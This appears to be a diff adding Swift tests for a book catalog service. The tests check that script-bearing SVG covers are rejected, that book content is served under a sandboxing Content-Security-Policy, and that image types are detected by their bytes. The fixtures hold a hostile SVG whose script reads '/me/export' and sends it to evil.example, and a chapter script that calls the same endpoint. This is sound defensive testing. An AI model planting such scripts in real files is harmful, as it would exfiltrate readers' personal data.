@@ -1,0 +1,111 @@
+import Foundation
+import HTTPTypes
+import Hummingbird
+import HummingbirdTesting
+import NIOCore
+import Shared
+import Testing
+import TestSupport
+import ZIPFoundation
+
+@testable import CatalogService
+
+/// A publisher's file never runs as this origin: covers are raster images only, and every response of book content
+/// is sandboxed (`ContentSecurity`).
+extension CatalogServiceTests {
+    /// A small valid EPUB 3 whose cover is `cover` (stored as `OPS/cover.<ext>` with the declared media type).
+    func epub(title: String, cover: Data, coverPath: String, coverType: String) throws -> URL {
+        let url = blobs.appendingPathComponent("content-\(UUID().uuidString).epub")
+        try FileManager.default.createDirectory(at: blobs, withIntermediateDirectories: true)
+        let archive = try Archive(url: url, accessMode: .create)
+        let chapter = Data("""
+            <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>One</title></head>
+            <body><h1>One</h1><p>Call me reader.</p><script>fetch('/me/export')</script></body></html>
+            """.utf8)
+        let nav = Data("""
+            <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head>
+            <body><nav epub:type="toc"><ol><li><a href="chapter.xhtml">One</a></li></ol></nav></body></html>
+            """.utf8)
+        let opf = Data("""
+            <?xml version="1.0" encoding="UTF-8"?>
+            <package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
+            <metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:uuid:\(UUID().uuidString)</dc:identifier>
+            <dc:title>\(title)</dc:title><dc:language>en</dc:language><meta property="dcterms:modified">2026-01-01T00:00:00Z</meta></metadata>
+            <manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
+            <item id="c1" href="chapter.xhtml" media-type="application/xhtml+xml"/>
+            <item id="cover" href="\(coverPath)" media-type="\(coverType)" properties="cover-image"/></manifest>
+            <spine><itemref idref="c1"/></spine></package>
+            """.utf8)
+        let container = Data("""
+            <?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
+            <rootfiles><rootfile full-path="OPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>
+            """.utf8)
+        let entries: [(String, Data, CompressionMethod)] = [
+            ("mimetype", Data("application/epub+zip".utf8), .none), ("META-INF/container.xml", container, .deflate),
+            ("OPS/book.opf", opf, .deflate), ("OPS/nav.xhtml", nav, .deflate), ("OPS/chapter.xhtml", chapter, .deflate),
+            ("OPS/\(coverPath)", cover, .deflate),
+        ]
+        for (path, data, method) in entries {
+            try archive.addEntry(with: path, type: .file, uncompressedSize: Int64(data.count), compressionMethod: method) { position, size in
+                data.subdata(in: Int(position)..<Int(position) + size)
+            }
+        }
+        return url
+    }
+
+    static let scriptedSVG = Data("""
+        <svg xmlns="http://www.w3.org/2000/svg" width="600" height="900"><rect width="600" height="900" fill="navy"/>
+        <script>fetch('/me/export').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></svg>
+        """.utf8)
+
+    @Test func aScriptBearingSVGCoverIsNeverStoredOrServed() async throws {
+        let (app, _) = try await app()
+        try await app.test(.router) { client in
+            let file = try epub(title: "Scripted Cover", cover: Self.scriptedSVG, coverPath: "cover.svg", coverType: "image/svg+xml")
+            let (status, body) = try await ingest(client, file)
+            #expect(status == .created)
+            let id = try #require(body["id"] as? String)
+            #expect((body["warnings"] as? [String])?.contains { $0.contains("not a JPEG, PNG, GIF or WebP") } == true, "\(body["warnings"] ?? "")")
+            for uri in ["/books/\(id)/cover", "/books/\(id)/cover?size=thumbnail"] {
+                try await client.execute(uri: uri, method: .get) { response in
+                    #expect(response.status == .notFound, "\(uri)")
+                    #expect(response.headers[.contentType] != "image/svg+xml")
+                }
+            }
+            // An SVG that claims to be a JPEG is refused by its bytes.
+            let disguised = try epub(title: "Disguised Cover", cover: Self.scriptedSVG, coverPath: "cover.jpg", coverType: "image/jpeg")
+            let (_, second) = try await ingest(client, disguised)
+            let other = try #require(second["id"] as? String)
+            try await client.execute(uri: "/books/\(other)/cover", method: .get) { #expect($0.status == .notFound) }
+        }
+    }
+
+    @Test func bookContentIsServedSandboxedAndUnsniffed() async throws {
+        let (app, _) = try await app()
+        try await app.test(.router) { client in
+            let png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + Data(repeating: 0, count: 64)
+            let file = try epub(title: "Open Content", cover: png, coverPath: "cover.png", coverType: "image/png")
+            let (status, body) = try await ingest(client, file, query: "?open_access=true")
+            #expect(status == .created)
+            let id = try #require(body["id"] as? String)
+            for uri in ["/books/\(id)/publication/OPS/chapter.xhtml", "/books/\(id)/fulfill", "/books/\(id)/cover"] {
+                try await client.execute(uri: uri, method: .get) { response in
+                    #expect(response.status == .ok, "\(uri)")
+                    let policy = response.headers[.contentSecurityPolicy] ?? ""
+                    #expect(policy.contains("default-src 'none'") && policy.contains("sandbox"), "\(uri): \(policy)")
+                    #expect(!policy.contains("script-src") || policy.contains("script-src 'none'"))
+                    #expect(response.headers[.xContentTypeOptions] == "nosniff", "\(uri)")
+                }
+            }
+        }
+    }
+
+    @Test func rasterImagesAreKnownByTheirBytes() {
+        #expect(RasterImage.type(of: Data([0xFF, 0xD8, 0xFF, 0xE0])) == "image/jpeg")
+        #expect(RasterImage.type(of: Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])) == "image/png")
+        #expect(RasterImage.type(of: Data("GIF89a..".utf8)) == "image/gif")
+        #expect(RasterImage.type(of: Data("RIFF\u{0}\u{0}\u{0}\u{0}WEBP".utf8)) == "image/webp")
+        #expect(RasterImage.type(of: Self.scriptedSVG) == nil)
+        #expect(RasterImage.type(of: Data("<html>".utf8)) == nil)
+    }
+}
